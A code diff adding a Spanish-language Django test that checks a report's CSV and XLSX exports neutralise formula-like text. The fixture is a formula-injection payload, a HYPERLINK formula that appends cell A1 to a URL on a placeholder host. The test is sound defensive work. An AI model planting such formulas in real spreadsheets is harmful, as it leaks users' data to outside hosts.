@@ -231,3 +231,22 @@ def test_la_pagina_cuesta_las_mismas_consultas_con_3_o_30_recomendaciones(
             pagina = admin_client.get(PAGINA, {"desde": "2015-01-01", "hasta": "2015-12-31"})
         assert pagina.content.decode().count("<tr>") == n + 1  # y el encabezado
         hechas = n
+
+
+def test_un_texto_que_parece_formula_llega_como_texto_al_csv_y_al_xlsx(admin_client):
+    # Un texto importado de una hoja ajena: abierto en Excel, no debe ejecutarse ni ser vínculo.
+    formula = '=HYPERLINK("http://ejemplo.invalid/?x="&A1,"Ver")'
+    f.RecomendacionFactory(
+        documento=f.DocumentoOnuFactory(simbolo="PRUEBA/CRC/9"), parrafo="1", texto=formula
+    )
+    periodo = {"desde": "2015-01-01", "hasta": "2015-12-31"}
+
+    csv_bytes = admin_client.get("/informes/seguimiento.csv", periodo).content
+    (renglon,) = csv.DictReader(io.StringIO(csv_bytes.decode("utf-8-sig")))
+    assert renglon["texto"] == "'" + formula
+
+    xlsx = admin_client.get("/informes/seguimiento.xlsx", periodo).content
+    hoja = openpyxl.load_workbook(io.BytesIO(xlsx))["Matriz de seguimiento"]
+    celda = hoja.cell(row=2, column=5)
+    assert celda.data_type == "s"
+    assert celda.value == formula
